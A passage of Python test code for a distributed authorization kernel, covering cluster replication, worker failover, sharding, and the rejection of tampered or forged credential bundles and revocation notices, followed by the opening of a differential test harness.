                     "subject_name", "boot_id", "signature", "chains"):
            for mutant in mutants:
                damaged = json.loads(json.dumps(bundle))
                damaged[name] = mutant
                with pytest.raises(BadChain) as excinfo:
                    CredentialBundle.from_dict(damaged)
                assert excinfo.value.code == "E_BAD_CHAIN"

    def test_tampered_bundles_rejected_at_admission(self, federated_pair):
        """Every class of tampering fails with a stable code: signature
        damage, statement edits, chain drops/reorders/substitutions,
        root-key swaps."""
        a, b = federated_pair
        rng = random.Random(21)
        original = _random_bundle(rng, a)
        wire = original.to_dict()

        def flip_hex(text):
            position = rng.randrange(len(text))
            replacement = "0" if text[position] != "0" else "1"
            return text[:position] + replacement + text[position + 1:]

        # A hostile platform: same wire shape, different root of trust.
        other = _random_bundle(rng, NexusKernel(key_seed=6603))
        tampers = [
            lambda d: d.update(signature=flip_hex(d["signature"])),
            lambda d: d["chains"][0]["certs"][-1].update(
                statement=d["chains"][0]["certs"][-1]["statement"] + " "),
            lambda d: d["chains"][0]["certs"][-1].update(
                signature=flip_hex(
                    d["chains"][0]["certs"][-1]["signature"])),
            lambda d: d.update(chains=d["chains"]
                               + other.to_dict()["chains"]),
            lambda d: d.update(chains=list(reversed(
                d["chains"] + other.to_dict()["chains"]))),
            lambda d: d.update(root_fingerprint="ab" * 32),
            lambda d: d["chains"][0].update(
                root_key=other.to_dict()["chains"][0]["root_key"]),
            lambda d: d.update(subject="/proc/ipd/999"),
        ]
        for tamper in tampers:
            damaged = json.loads(json.dumps(wire))
            tamper(damaged)
            with pytest.raises((BadChain, UntrustedPeer)) as excinfo:
                b.admit_remote(damaged)
            assert excinfo.value.code in ("E_BAD_CHAIN",
                                          "E_UNTRUSTED_PEER")
        # The original is untouched by all that hostility.
        assert b.admit_remote(wire).labels == len(original.chains)

    def test_truncated_admit_envelopes_rejected_on_the_wire(
            self, federated_pair):
        """Byte-level truncation of the full admit request must map to a
        stable request-level code, whatever the cut point."""
        from repro.api import messages as msg
        from repro.api.errors import ApiError
        a, _ = federated_pair
        rng = random.Random(31)
        bundle = _random_bundle(rng, a)
        raw = msg.FederationAdmitRequest(session="sess-x",
                                         bundle=bundle.to_dict()).to_bytes()
        for _ in range(40):
            cut = rng.randrange(1, len(raw))
            with pytest.raises(ApiError) as excinfo:
                msg.decode_request(raw[:cut])
            assert excinfo.value.code in ("E_BAD_REQUEST", "E_BAD_VERSION",
                                          "E_UNKNOWN_KIND")

    def test_wire_admit_rejections_keep_codes_over_http(self,
                                                        federated_pair):
        """The same tamper classes, pushed through the HTTP endpoint,
        surface the same codes as structured error responses."""
        from repro.api import NexusClient, NexusService
        from repro.api.errors import ApiError
        a, _ = federated_pair
        rng = random.Random(43)
        bundle = _random_bundle(rng, a)
        service = NexusService(NexusKernel(key_seed=5502))
        client = NexusClient.over_http(service)
        admin = client.open_session("admin")
        admin.add_peer("site-a", a.platform_identity()["root_key"])
        damaged = json.loads(json.dumps(bundle.to_dict()))
        damaged["chains"][0]["certs"][0]["subject"] = "NK-evil"
        with pytest.raises(ApiError) as excinfo:
            admin.admit_remote(damaged)
        assert excinfo.value.code == "E_BAD_CHAIN"
        assert isinstance(excinfo.value, ReproError)
