"""The cluster runtime, end to end.

Three rings of scrutiny:

* **components in-process** — ring math, the UDP epoch bus, WAL
  tailing into a :class:`~repro.cluster.replica.KernelReplica`
  (including compaction resync), and a whole worker fleet running as
  *threads* in this process (``SO_REUSEPORT`` makes that legal), which
  keeps every line visible to the coverage tracer;
* **forked fleets** — a real :class:`~repro.cluster.supervisor.Supervisor`
  with worker *processes*, exercised through real sockets, including
  ``kill -9`` fault injection against both a follower and the writer;
* **sharding** — consistent-hash partitioning across federated
  kernels with credential-bundle trust and signed revocation evidence.
"""

import os
import signal
import socket
import time

import pytest

from repro.api import messages as msg
from repro.api.client import ClientSession, NexusClient
from repro.api.service import NexusService
from repro.cluster import (BusPublisher, BusSubscriber, ClusterConfig,
                           ClusterService, ClusterWorker, FORWARDED_KINDS,
                           HashRing, KernelReplica, ShardedCluster,
                           Supervisor, WRITER_INDEX, bootstrap_directory,
                           read_writer_address)
from repro.errors import ClusterError, ReproError, SignatureError
from repro.kernel.kernel import NexusKernel
from repro.nal.parser import parse
from repro.nal.proof import Assume, ProofBundle
from repro.storage.backend import FileBackend

KEYS = {"key_seed": 1001, "key_bits": 512}


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------

def _reserve_port(host="127.0.0.1"):
    """A bound, never-listening SO_REUSEPORT socket: fixes the shared
    port for in-process fleets the way the supervisor does."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind((host, 0))
    return sock


class fleet_in_process:
    """N :class:`ClusterWorker` threads over one directory — the
    coverage-visible way to run a whole fleet."""

    def __init__(self, directory, workers=3, **overrides):
        self._reservation = _reserve_port()
        overrides.setdefault("poll_interval", 0.02)
        self.config = ClusterConfig(
            directory=str(directory), workers=workers,
            port=self._reservation.getsockname()[1], **overrides)
        self.workers = []

    def __enter__(self):
        try:
            for index in range(self.config.workers):
                worker = ClusterWorker(self.config, index)
                worker.start()
                self.workers.append(worker)
        except BaseException:
            self.__exit__()
            raise
        return self

    def __exit__(self, *_exc):
        for worker in reversed(self.workers):
            worker.stop()
        self._reservation.close()

    def client(self, index):
        """A client pinned to one worker's private address."""
        return NexusClient.connect(*self.workers[index].private_address)


def _allow_setup(owner, reader, resource_name="/files/box"):
    """Owner-granted access with an explicit proof bundle; returns
    (resource, proof_document) such that ``reader`` is allowed."""
    resource = owner.create_resource(resource_name, "file")
    owner.set_goal(resource, "read",
                   f"{owner.principal} says ok({reader.pid})")
    credential = owner.say(f"ok({reader.pid})")
    concrete = parse(credential.formula)
    bundle = ProofBundle(Assume(concrete), credentials=(concrete,))
    from repro.api import codec
    return resource, codec.encode_bundle(bundle)


# --------------------------------------------------------------------------
# the ring
# --------------------------------------------------------------------------

class TestHashRing:
    def test_deterministic_and_total(self):
        ring = HashRing(["a", "b", "c"], vnodes=32)
        names = [f"user-{i}" for i in range(200)]
        homes = {name: ring.node_for(name) for name in names}
        assert homes == {name: ring.node_for(name) for name in names}
        assert set(homes.values()) == {"a", "b", "c"}

    def test_add_remaps_minimally(self):
        ring = HashRing(["a", "b", "c"], vnodes=64)
        names = [f"user-{i}" for i in range(500)]
        before = {name: ring.node_for(name) for name in names}
        ring.add("d")
        moved = [name for name in names
                 if ring.node_for(name) != before[name]]
        # Only keys on arcs "d" captured move, and they move *to* d.
        assert all(ring.node_for(name) == "d" for name in moved)
        assert 0 < len(moved) < len(names) / 2

    def test_remove_falls_to_successors(self):
        ring = HashRing(["a", "b", "c"], vnodes=64)
        names = [f"user-{i}" for i in range(300)]
        before = {name: ring.node_for(name) for name in names}
        ring.remove("b")
        assert "b" not in ring.nodes
        for name in names:
            after = ring.node_for(name)
            assert after != "b"
            if before[name] != "b":
                assert after == before[name]

    def test_add_twice_and_remove_absent_are_noops(self):
        ring = HashRing(["a"], vnodes=8)
        points = list(ring._ring)
        ring.add("a")
        ring.remove("ghost")
        assert ring._ring == points

    def test_errors(self):
        with pytest.raises(ClusterError):
            HashRing(vnodes=0)
        with pytest.raises(ClusterError):
            HashRing().node_for("anyone")


class TestClusterConfig:
    def test_roundtrip(self):
        config = ClusterConfig(directory="/tmp/x", workers=4, port=1234,
                               decision_cache=False, **KEYS)
        clone = ClusterConfig.from_dict(config.to_dict())
        assert clone == config
        assert clone.kernel_kwargs() == KEYS


# --------------------------------------------------------------------------
# the epoch bus
# --------------------------------------------------------------------------

class TestBus:
    def test_nudge_reaches_subscriber(self, tmp_path):
        directory = str(tmp_path)
        subscriber = BusSubscriber(directory, "w1")
        publisher = BusPublisher(directory)
        try:
            publisher.publish(7)
            assert subscriber.wait(2.0) == 7
        finally:
            publisher.close()
            subscriber.close()

    def test_wait_drains_to_max_seq(self, tmp_path):
        directory = str(tmp_path)
        subscriber = BusSubscriber(directory, "w1")
        publisher = BusPublisher(directory)
        try:
            for seq in (1, 2, 9, 5):
                publisher.publish(seq)
            assert subscriber.wait(2.0) == 9
        finally:
            publisher.close()
            subscriber.close()

    def test_garbage_datagrams_ignored(self, tmp_path):
        directory = str(tmp_path)
        subscriber = BusSubscriber(directory, "w1")
        try:
            port = subscriber.port
            probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            probe.sendto(b"not-the-bus", ("127.0.0.1", port))
            probe.sendto(b"NXB1 not-a-number", ("127.0.0.1", port))
            probe.close()
            assert subscriber.wait(0.2) is None
        finally:
            subscriber.close()

    def test_publisher_survives_dead_subscribers(self, tmp_path):
        directory = str(tmp_path)
        subscriber = BusSubscriber(directory, "dead")
        port_file = subscriber._path
        subscriber._socket.close()  # dead socket, port file left behind
        publisher = BusPublisher(directory)
        try:
            publisher.publish(1)  # must not raise
            assert os.path.exists(port_file)
        finally:
            publisher.close()
            os.unlink(port_file)

    def test_close_unregisters(self, tmp_path):
        subscriber = BusSubscriber(str(tmp_path), "w1")
        port_file = subscriber._path
        assert os.path.exists(port_file)
        subscriber.close()
        assert not os.path.exists(port_file)


# --------------------------------------------------------------------------
# the replica
# --------------------------------------------------------------------------

class _Writer:
    """An exclusive-lock writer kernel over a directory, for driving
    replicas by hand."""

    def __init__(self, directory, snapshot_every=None):
        self.backend = FileBackend(str(directory), exclusive=True)
        self.kernel = NexusKernel(**KEYS)
        self.kernel.attach_storage(self.backend, sync_every=1,
                                   snapshot_every=snapshot_every)

    def close(self):
        self.backend.close()


class TestKernelReplica:
    def test_boot_restores_existing_state(self, tmp_path):
        writer = _Writer(tmp_path)
        process = writer.kernel.create_process("alice")
        writer.kernel.sys_say(process.pid, "likes(pie)")
        replica = KernelReplica(str(tmp_path), **KEYS)
        try:
            twin = replica.kernel.processes.get(process.pid)
            assert str(twin.principal) == str(process.principal)
            assert replica.seq == writer.kernel.storage_stats()["seq"]
        finally:
            writer.close()

    def test_poll_tails_incrementally(self, tmp_path):
        writer = _Writer(tmp_path)
        replica = KernelReplica(str(tmp_path), **KEYS)
        try:
            process = writer.kernel.create_process("alice")
            writer.kernel.sys_say(process.pid, "likes(pie)")
            applied = replica.poll()
            assert applied > 0
            assert replica.kernel.processes.get(process.pid) is not None
            assert replica.poll() == 0  # nothing new
            assert replica.seq == writer.kernel.storage_stats()["seq"]
        finally:
            writer.close()

    def test_replica_survives_compaction(self, tmp_path):
        writer = _Writer(tmp_path)
        replica = KernelReplica(str(tmp_path), **KEYS)
        try:
            process = writer.kernel.create_process("alice")
            replica.poll()
            writer.kernel.snapshot_now()  # log truncated under us
            writer.kernel.sys_say(process.pid, "likes(pie)")
            replica.poll()
            assert replica.seq == writer.kernel.storage_stats()["seq"]
            assert replica.kernel.labels.holds(
                parse(f"{process.principal} says likes(pie)"))
        finally:
            writer.close()

    def test_wait_for_seq(self, tmp_path):
        writer = _Writer(tmp_path)
        replica = KernelReplica(str(tmp_path), **KEYS)
        try:
            writer.kernel.create_process("alice")
            target = writer.kernel.storage_stats()["seq"]
            assert replica.wait_for_seq(target, timeout=2.0)
            assert not replica.wait_for_seq(target + 50, timeout=0.1)
        finally:
            writer.close()

    def test_rebuild_recovers_everything(self, tmp_path):
        writer = _Writer(tmp_path)
        replica = KernelReplica(str(tmp_path), **KEYS)
        try:
            process = writer.kernel.create_process("alice")
            replica.rebuild()
            assert replica.rebuilds == 1
            assert replica.kernel.processes.get(process.pid) is not None
            assert replica.seq == writer.kernel.storage_stats()["seq"]
        finally:
            writer.close()

    def test_replica_mutations_never_journal(self, tmp_path):
        writer = _Writer(tmp_path)
        replica = KernelReplica(str(tmp_path), **KEYS)
        try:
            before = os.path.getsize(
                os.path.join(str(tmp_path), "wal.log"))
            replica.kernel.create_process("local-ghost")
            assert os.path.getsize(
                os.path.join(str(tmp_path), "wal.log")) == before
        finally:
            writer.close()


# --------------------------------------------------------------------------
# the revoke endpoint (plain service, no cluster required)
# --------------------------------------------------------------------------

class TestRevokeEndpoint:
    def test_global_revoke_bumps_policy_epoch(self):
        service = NexusService(NexusKernel(**KEYS))
        client = NexusClient.in_process(service)
        session = client.open_session("admin")
        before = client.info().cache["policy_epoch"]
        response = session.revoke()
        assert response.policy_epoch == before + 1
        assert response.peer is None and response.dropped == 0

    def test_peer_revoke_by_alias(self):
        service = NexusService(NexusKernel(**KEYS))
        other = NexusKernel(key_seed=2002, key_bits=512)
        identity = other.platform_identity()
        peer = service.kernel.add_peer("site-b", identity["root_key"],
                                       platform=identity["platform"])
        client = NexusClient.in_process(service)
        session = client.open_session("admin")
        response = session.revoke(peer="site-b")
        assert response.peer == peer.peer_id
        assert service.kernel.peers.get(peer.peer_id).trusted is False

    def test_unknown_peer_is_an_error(self):
        service = NexusService(NexusKernel(**KEYS))
        client = NexusClient.in_process(service)
        session = client.open_session("admin")
        with pytest.raises(ReproError):
            session.revoke(peer="nobody")


# --------------------------------------------------------------------------
# a fleet of threads (coverage-visible)
# --------------------------------------------------------------------------

class TestFleetInProcess:
    def test_follower_serves_writer_state(self, tmp_path):
        with fleet_in_process(tmp_path, workers=2, **KEYS) as fleet:
            writer_client = fleet.client(WRITER_INDEX)
            follower_client = fleet.client(1)
            alice = writer_client.open_session("alice")
            alice.create_resource("/doc/a", "file")
            # A brand-new session opened *through the follower* is
            # brokered to the writer and adopted locally.
            bob = follower_client.open_session("bob")
            resource = bob.create_resource("/doc/b", "file")
            # Read-your-writes: the follower answers its own reads.
            assert bob.goal_for(resource, "read") is None
            verdict = bob.authorize("read", "/doc/a")
            assert verdict.allow is False  # not the owner — but *seen*
            writer_client.close()
            follower_client.close()

    def test_forwarded_mutation_lands_once(self, tmp_path):
        with fleet_in_process(tmp_path, workers=2, **KEYS) as fleet:
            follower_client = fleet.client(1)
            session = follower_client.open_session("alice")
            session.say("likes(pie)")
            follower = fleet.workers[1]
            assert follower.service.forwarded >= 2  # open + say
            # Read-your-writes already held the reply until the replica
            # replayed the writer's log position.
            writer_client = fleet.client(WRITER_INDEX)
            assert follower.replica.seq \
                == writer_client.storage_stats().stats["seq"]
            writer_client.close()
            follower_client.close()

    def test_unknown_token_forwarded_wholesale(self, tmp_path):
        with fleet_in_process(tmp_path, workers=3, **KEYS) as fleet:
            first = fleet.client(1)
            session = first.open_session("alice")
            resource = session.create_resource("/doc/a", "file")
            # Same token presented to a sibling that never saw it:
            second = fleet.client(2)
            moved = ClientSession(second, session.token, session.pid,
                                  session.principal)
            verdict = moved.authorize("write", resource.resource_id)
            assert verdict.allow is True  # owner, via wholesale forward
            first.close()
            second.close()

    def test_no_stale_allow_after_goal_change(self, tmp_path):
        with fleet_in_process(tmp_path, workers=3, **KEYS) as fleet:
            clients = [fleet.client(i) for i in range(3)]
            owner = clients[0].open_session("owner")
            reader = clients[1].open_session("reader")
            resource, proof = _allow_setup(owner, reader)
            # Warm an allow into every worker's decision cache.
            sessions = [reader] + [
                ClientSession(c, reader.token, reader.pid,
                              reader.principal) for c in clients[1:]]
            for session in sessions:
                assert session.authorize("read", resource.resource_id,
                                         proof=proof).allow is True
            # The owner slams the door -- through a *follower*.
            follower_owner = ClientSession(clients[2], owner.token,
                                           owner.pid, owner.principal)
            follower_owner.set_goal(resource.resource_id, "read",
                                    f"{owner.principal} says never()")
            # Every worker must now deny: no stale allow anywhere.
            for session in sessions:
                assert session.authorize("read", resource.resource_id,
                                         proof=proof).allow is False
            for client in clients:
                client.close()

    def test_revoke_epoch_reaches_every_worker(self, tmp_path):
        with fleet_in_process(tmp_path, workers=3, **KEYS) as fleet:
            clients = [fleet.client(i) for i in range(3)]
            session = clients[2].open_session("admin")
            before = [c.info().cache["policy_epoch"] for c in clients]
            assert before == [0, 0, 0]
            response = session.revoke()  # via follower 2 -> writer
            assert response.policy_epoch == 1
            # Read-your-writes already synced follower 2; the other
            # follower hears it over the bus within a poll interval.
            deadline = time.monotonic() + 5.0
            while time.monotonic() < deadline:
                epochs = [c.info().cache["policy_epoch"] for c in clients]
                if epochs == [1, 1, 1]:
                    break
                time.sleep(0.02)
            assert epochs == [1, 1, 1]
            for client in clients:
                client.close()

    def test_close_session_everywhere(self, tmp_path):
        with fleet_in_process(tmp_path, workers=2, **KEYS) as fleet:
            follower_client = fleet.client(1)
            session = follower_client.open_session("alice")
            follower_client.call(
                msg.CloseSessionRequest(session=session.token),
                msg.AckResponse)
            with pytest.raises(ReproError):
                session.say("anything")
            follower_client.close()

    def test_worker_documents(self, tmp_path):
        with fleet_in_process(tmp_path, workers=2, **KEYS) as fleet:
            writer_doc = fleet.workers[0].service.worker_document()
            follower_doc = fleet.workers[1].service.worker_document()
            assert writer_doc["role"] == "writer"
            assert follower_doc["role"] == "follower"
            assert writer_doc["boot_id"] == follower_doc["boot_id"]
            assert writer_doc["seq"] == follower_doc["seq"]

    def test_worker_requires_concrete_port(self, tmp_path):
        worker = ClusterWorker(ClusterConfig(directory=str(tmp_path),
                                             **KEYS), 0)
        with pytest.raises(ClusterError):
            worker.start()

    def test_follower_without_writer_reports_errors(self, tmp_path):
        # A replica can boot from a bare directory only after a writer
        # created the medium; and with no writer.addr a forwarded
        # mutation must come back as a clean wire error, not a hang.
        writer = _Writer(tmp_path)
        writer.close()
        replica = KernelReplica(str(tmp_path), **KEYS)
        service = ClusterService(replica=replica, role="follower",
                                 directory=str(tmp_path))
        client = NexusClient.in_process(service)
        with pytest.raises(ReproError):
            client.open_session("alice")
        with pytest.raises(ClusterError):
            read_writer_address(str(tmp_path))

    def test_service_role_replica_mismatch(self, tmp_path):
        with pytest.raises(ClusterError):
            ClusterService(NexusKernel(**KEYS), role="follower")


# --------------------------------------------------------------------------
# forked fleets: the real thing
# --------------------------------------------------------------------------

def _forked_fleet(tmp_path, workers=3, start_method="fork"):
    return Supervisor(ClusterConfig(
        directory=str(tmp_path), workers=workers,
        start_method=start_method, heartbeat_interval=0.1, **KEYS))


def _worker_serving(client):
    """Which worker answers this client's TCP connection — asked over
    the *same* keep-alive connection the API calls ride."""
    import json
    connection = client.transport.connection
    raw = connection.send(b"GET /cluster/worker HTTP/1.1\r\n"
                          b"Host: t\r\nContent-Length: 0\r\n\r\n")
    return json.loads(raw.split(b"\r\n\r\n", 1)[1])



class TestForkedFleet:
    def test_kill_follower_reconnect_same_verdicts(self, tmp_path):
        supervisor = _forked_fleet(tmp_path, workers=3)
        host, port = supervisor.start()
        try:
            # Land a connection on a follower (retry the lottery the
            # shared port runs; two of three workers are followers).
            for _ in range(40):
                client = NexusClient.connect(host, port)
                serving = _worker_serving(client)
                if serving["role"] == "follower":
                    break
                client.close()
            else:
                pytest.fail("never reached a follower via SO_REUSEPORT")
            owner = client.open_session("owner")
            reader = client.open_session("reader")
            resource, proof = _allow_setup(owner, reader)
            before = reader.authorize("read", resource.resource_id,
                                      proof=proof)
            assert before.allow is True

            victim = serving["worker"]
            os.kill(supervisor.worker_pid(victim), signal.SIGKILL)
            # The PersistentConnection notices the reset, reconnects to
            # the shared port, lands on a surviving worker (which may
            # not know the token — wholesale forward covers that), and
            # the verdict must not change.
            deadline = time.monotonic() + 10.0
            after = None
            while time.monotonic() < deadline:
                try:
                    after = reader.authorize("read", resource.resource_id,
                                             proof=proof)
                    break
                except ReproError:
                    time.sleep(0.1)
            assert after is not None, "client never got an answer back"
            assert (after.allow, after.reason) \
                == (before.allow, before.reason)
            # At least one genuine *re*-establishment (the first
            # connect no longer counts as a reconnect).
            assert client.transport.connection.reconnects >= 1

            # The supervisor restarts the victim; the reborn worker
            # must serve the same verdict from the shared WAL.
            supervisor.wait_worker_ready(victim, timeout=20)
            assert supervisor.restarts >= 1
            reborn = NexusClient.connect(
                *supervisor.worker_address(victim))
            moved = ClientSession(reborn, reader.token, reader.pid,
                                  reader.principal)
            verdict = moved.authorize("read", resource.resource_id,
                                      proof=proof)
            assert verdict.allow is before.allow
            # The unknown token forwards to the writer, whose decision
            # cache is warm by now — either surface is a legal reason.
            assert verdict.reason in (before.reason, "decision cache")
            reborn.close()
            client.close()
        finally:
            supervisor.stop()

    def test_kill_writer_fleet_heals(self, tmp_path):
        supervisor = _forked_fleet(tmp_path, workers=2)
        supervisor.start()
        try:
            follower_client = NexusClient.connect(
                *supervisor.worker_address(1))
            session = follower_client.open_session("alice")
            session.create_resource("/doc/pre", "file")

            os.kill(supervisor.worker_pid(WRITER_INDEX), signal.SIGKILL)
            supervisor.wait_worker_ready(WRITER_INDEX, timeout=20)

            # Sessions died with the writer: the stale token must be
            # refused (and evicted follower-side), then a fresh session
            # sees the durable pre-kill state.
            deadline = time.monotonic() + 10.0
            fresh = None
            while time.monotonic() < deadline:
                try:
                    session.say("anything")
                    pytest.fail("stale session survived a writer restart")
                except ReproError:
                    pass
                try:
                    fresh = follower_client.open_session("bob")
                    break
                except ReproError:
                    time.sleep(0.1)
            assert fresh is not None, "fleet never healed"
            resource = fresh.create_resource("/doc/post", "file")
            assert resource.name == "/doc/post"
            assert fresh.authorize("read", "/doc/pre").allow is False
            follower_client.close()
        finally:
            supervisor.stop()

    def test_bootstrap_runs_once(self, tmp_path):
        seeded = []

        def bootstrap(kernel):
            seeded.append(kernel.create_process("seeded").pid)

        config = ClusterConfig(directory=str(tmp_path), workers=1,
                               **KEYS)
        bootstrap_directory(config, bootstrap)
        bootstrap_directory(config, bootstrap)  # directory non-empty now
        assert len(seeded) == 1

        supervisor = Supervisor(config, bootstrap=bootstrap)
        host, port = supervisor.start()
        try:
            assert len(seeded) == 1  # still once
            client = NexusClient.connect(host, port)
            session = client.open_session("probe")
            # The seeded process survived into the served fleet.
            assert session.pid > seeded[0]
            client.close()
        finally:
            supervisor.stop()



class TestSpawnedFleet:
    def test_spawn_context_round_trip(self, tmp_path):
        supervisor = _forked_fleet(tmp_path, workers=2,
                                   start_method="spawn")
        host, port = supervisor.start()
        try:
            client = NexusClient.connect(host, port)
            session = client.open_session("alice")
            resource = session.create_resource("/doc/a", "file")
            assert session.authorize("write",
                                     resource.resource_id).allow is True
            client.close()
        finally:
            supervisor.stop()


# --------------------------------------------------------------------------
# sharding
# --------------------------------------------------------------------------

def _shards(n=3):
    return ShardedCluster({
        f"shard-{i}": NexusKernel(key_seed=3000 + i, key_bits=512)
        for i in range(n)})


class TestShardedCluster:
    def test_principals_pin_to_ring_homes(self):
        cluster = _shards()
        for name in ("alice", "bob", "carol", "dave"):
            principal = cluster.create_principal(name)
            assert principal.shard == cluster.home_of(name)
            kernel = cluster.kernel_of(principal.shard)
            assert kernel.processes.get(principal.pid) is not None

    def test_same_shard_authorization(self):
        cluster = _shards()
        alice = cluster.create_principal("alice", ["ok(box)"])
        kernel = cluster.kernel_of(alice.shard)
        owner = kernel.create_process("owner")
        resource = kernel.resources.create("/files/box", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{alice.principal} says ok(box)")
        decision = cluster.authorize(alice, "read", alice.shard,
                                     resource.resource_id)
        assert decision.allow is True

    def test_cross_shard_travels_as_bundle(self):
        cluster = _shards()
        alice = cluster.create_principal("alice", ["ok(box)"])
        # A resource on a *different* shard than alice's home.
        target_name = next(name for name in cluster.shards
                           if name != alice.shard)
        target = cluster.kernel_of(target_name)
        owner = target.create_process("owner")
        resource = target.resources.create("/files/box", "file",
                                           owner.principal)
        # The goal names the alias-qualified speaker admission mints
        # (idempotent: cluster.authorize re-admits from the digest
        # cache).
        home = cluster.kernel_of(alice.shard)
        admission = target.admit_remote(home.export_credentials(alice.pid))
        target.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{admission.remote_principal} says ok(box)")
        decision = cluster.authorize(alice, "read", target_name,
                                     resource.resource_id)
        assert decision.allow is True, decision.reason

    def test_revocation_evidence_propagates(self):
        cluster = _shards()
        victim = cluster.kernel_of("shard-2").platform_identity()
        applied = cluster.revoke_everywhere(
            "shard-0", victim["peer_id"])
        assert applied["shard-0"] is True
        assert applied["shard-1"] is True
        # shard-2 is the victim itself: it never pinned its own key.
        assert cluster.kernel_of("shard-1").peers.get(
            victim["peer_id"]).trusted is False

    def test_forged_evidence_refused(self):
        cluster = _shards()
        victim = cluster.kernel_of("shard-2").platform_identity()
        notice = cluster.revoke_peer("shard-0", victim["peer_id"])
        # Claiming a different announcer: the chain no longer matches
        # that shard's pinned root key.
        notice["announcer"] = "shard-1"
        with pytest.raises(SignatureError):
            cluster.apply_revocation("shard-2", notice)

    def test_evidence_for_wrong_peer_refused(self):
        cluster = _shards()
        victim = cluster.kernel_of("shard-2").platform_identity()
        other = cluster.kernel_of("shard-1").platform_identity()
        notice = cluster.revoke_peer("shard-0", victim["peer_id"])
        notice["peer_id"] = other["peer_id"]  # chain attests the victim
        with pytest.raises(SignatureError):
            cluster.apply_revocation("shard-1", notice)

    def test_unknown_announcer_refused(self):
        cluster = _shards()
        victim = cluster.kernel_of("shard-2").platform_identity()
        notice = cluster.revoke_peer("shard-0", victim["peer_id"])
        notice["announcer"] = "shard-x"
        from repro.errors import UntrustedPeer
        with pytest.raises(UntrustedPeer):
            cluster.apply_revocation("shard-1", notice)

    def test_unknown_peer_is_a_noop(self):
        # A peer only shard-0 ever pinned: the notice verifies on
        # shard-1, but there is nothing there to drop.
        cluster = _shards()
        outsider = NexusKernel(key_seed=4004,
                               key_bits=512).platform_identity()
        cluster.kernel_of("shard-0").add_peer(
            "outsider", outsider["root_key"],
            platform=outsider["platform"])
        notice = cluster.revoke_peer("shard-0", outsider["peer_id"])
        assert cluster.apply_revocation("shard-1", notice) is False

    def test_forwarded_kinds_are_the_journaled_ones(self):
        # Every forwarded kind is a durable mutation; authorize (the
        # scale-out read) must *never* be forwarded.
        assert msg.AuthorizeRequest.KIND not in FORWARDED_KINDS
        assert msg.SayRequest.KIND in FORWARDED_KINDS
        assert msg.RevokeRequest.KIND in FORWARDED_KINDS


# --------------------------------------------------------------------------
# the differential leg: a forked fleet must be invisible
# --------------------------------------------------------------------------

class TestClusterDifferential:
    def test_verdicts_byte_identical_to_in_process(self):
        from harness import run_cluster_differential
        from repro.api import codec

        def scenario(world):
            admin = world.admin()
            box = admin.create_resource("/files/box", "file")
            alice = world.identity("alice", ["ok(box)"])
            admin.set_goal(box, "read",
                           f"{alice.speaker} says ok(box)")
            concrete = parse(f"{alice.speaker} says ok(box)")
            proof = codec.encode_bundle(
                ProofBundle(Assume(concrete), credentials=(concrete,)))

            def verdict(v):
                return {"allow": v.allow, "cacheable": v.cacheable,
                        "reason": v.reason}

            explained = alice.explain("read", box, proof=proof)
            return {
                "goal": alice.session.goal_for(box, "read"),
                "deny_no_proof": verdict(
                    alice.authorize("read", box)),
                "allow_proof": verdict(
                    alice.authorize("read", box, proof=proof)),
                "allow_cached": verdict(
                    alice.authorize("read", box, proof=proof)),
                "allow_wallet": verdict(
                    alice.authorize("read", box, wallet=True)),
                "explain": {
                    "verdict": verdict(explained.verdict),
                    "explanation": explained.explanation.to_dict(),
                },
            }

        document = run_cluster_differential(scenario, workers=3)
        assert document["deny_no_proof"]["allow"] is False
        assert document["allow_proof"]["allow"] is True
        assert document["allow_cached"]["reason"] == "decision cache"
        assert document["explain"]["verdict"]["allow"] is True
