"""The shared differential-transport harness.

Every authorization story in this repo can be told three ways:

* **direct** — typed messages straight into a :class:`NexusService`;
* **http** — the same messages through canonical JSON, HTTP framing and
  the Router (full wire fidelity);
* **cross-kernel** — the subject's credentials are minted on a *second*
  kernel, exported as a signed certificate-chain bundle, and admitted
  through the federation endpoints before any authorization happens.

The harness holds all three to the same answers.  Between direct and
http the verdict/explanation documents must be **byte-identical** (same
op sequence, same pids, same goal texts).  The cross-kernel world mints
different principal names by construction (alias-qualified remote
speakers, fresh local pids), so its documents are compared after
**principal normalization**: every principal string an identity owns is
replaced by a stable ``«id:name»`` token, and the resulting bytes must
match the local worlds exactly — same kinds, same goals, same premises,
same reasons, modulo nothing but names.

Scenarios that want to run differentially should keep goals
subject-independent (no ``?Subject``): a subject variable would bake the
local pid into the goal text, which is exactly the coupling federation
removes.

A fourth, opt-in leg covers the cluster runtime:
:func:`run_cluster_differential` replays a wire-only scenario against a
forked worker fleet (one shared WAL, mutations forwarded to the writer,
reads served from a follower's replica) and requires the resulting
document to be byte-identical to the direct world's.
"""

import json
import shutil
import tempfile

from repro.api import NexusClient, NexusService
from repro.core.attestation import kernel_wallet_bundle
from repro.kernel.kernel import NexusKernel

#: Distinct key seeds so the two federated platforms have distinct
#: TPM/NK identities (the default seed would make every kernel clone
#: the same keys).
HOME_SEED = 5005
REMOTE_SEED = 6006

#: The alias the cross-kernel world registers its credential-minting
#: peer under.
PEER_ALIAS = "site-a"

WORLD_KINDS = ("direct", "http", "http-binary", "cross-kernel")


class Identity:
    """One credentialed subject, however its credentials arrived.

    ``speaker`` is the principal goals should name (the session
    principal locally; the alias-qualified remote principal after
    admission); ``session`` speaks *as* the subject over the world's
    transport; ``pid`` is the subject's process on the home kernel.
    ``subject`` is the principal the home kernel *acts as* when this
    identity makes a request — locally the same string as ``speaker``,
    but after federation it is the admitted stand-in process, not the
    remote speaker.  Goals (IAM Allow bindings) should name ``speaker``;
    guard-level matching (IAM Deny bindings) should name ``subject``.
    Both normalize to the same ``«id:name»`` token.
    """

    def __init__(self, world, name, speaker, session, pid, subject=None):
        self.world = world
        self.name = name
        self.speaker = speaker
        self.session = session
        self.pid = pid
        self.subject = subject if subject is not None else speaker

    def authorize(self, operation, resource, proof=None, wallet=False):
        """One wire Figure-1 round trip as this subject."""
        return self.session.authorize(operation, resource, proof=proof,
                                      wallet=wallet)

    def explain(self, operation, resource, proof=None, wallet=False):
        """The wire explain endpoint as this subject."""
        return self.session.explain(operation, resource, proof=proof,
